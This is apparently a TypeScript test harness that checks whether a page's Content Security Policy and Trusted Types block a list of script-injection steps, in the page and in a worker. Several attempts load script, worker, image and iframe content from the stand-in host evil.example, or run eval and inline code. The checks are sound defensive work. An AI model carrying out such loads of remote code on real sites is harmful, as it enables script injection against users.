/** What each attempt comes to where the policy holds. */
export const REFUSED = Object.fromEntries(
  [
    "html",
    "eval",
    "function",
    "script",
    "inline",
    "image",
    "frame",
    "policy",
    "foreign",
    "blob",
    "data",
    "other folder",
  ].map((name) => [name, "refused"]),
);

/** Runs in the page: what a script that got in would try next. */
export async function attempts(): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  // The browser lets the debugger's own call use eval; a later one is the page's.
  await new Promise((resolve) => setTimeout(resolve));
  const attempt = (name: string, run: () => unknown) => {
    try {
      run();
      tried[name] = "done";
    } catch {
      tried[name] = "refused";
    }
  };
  const stopped = (directive: string, run: () => void) =>
    new Promise<string>((resolve) => {
      const listener = ({ violatedDirective }: SecurityPolicyViolationEvent) => {
        if (violatedDirective.startsWith(directive)) resolve("refused");
      };
      document.addEventListener("securitypolicyviolation", listener);
      setTimeout(() => resolve("done"), 10_000);
      try {
        run();
      } catch {
        resolve("refused");
      }
    });
  attempt("html", () => {
    document.createElement("p").innerHTML = "<b>x</b>";
  });
  // biome-ignore lint/security/noGlobalEval: it has to fail
  attempt("eval", () => globalThis.eval("1"));
  attempt("function", () => new Function("return 1"));
  attempt("script", () => {
    document.createElement("script").src = "https://evil.example/x.js";
  });
  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
    .trustedTypes;
  attempt("policy", () => types.createPolicy("another", {}));
  attempt("foreign", () => new Worker("https://evil.example/w.js"));
  attempt("blob", () => new Worker(URL.createObjectURL(new Blob([""]))));
  attempt("data", () => new Worker("data:text/javascript,"));
  attempt("other folder", () => new Worker("/elsewhere.js"));
  tried.inline = await stopped("script-src", () => document.body.setAttribute("onclick", "1"));
  tried.image = await stopped("img-src", () => {
    new Image().src = "https://evil.example/i.png";
  });
  tried.frame = await stopped("frame-src", () => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    frame.remove();
  });
  return tried;
}

/** Runs in a worker. */
export async function attemptsOfWorker(): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  await new Promise((resolve) => setTimeout(resolve));
  const attempt = (name: string, run: () => unknown) => {
    try {
      run();
      tried[name] = "done";
    } catch {
      tried[name] = "refused";
    }
  };
  // biome-ignore lint/security/noGlobalEval: it has to fail
  attempt("eval", () => globalThis.eval("1"));
  attempt("foreign", () => new Worker("https://evil.example/w.js"));
  attempt("blob", () => new Worker(URL.createObjectURL(new Blob([""]))));
  return tried;
}
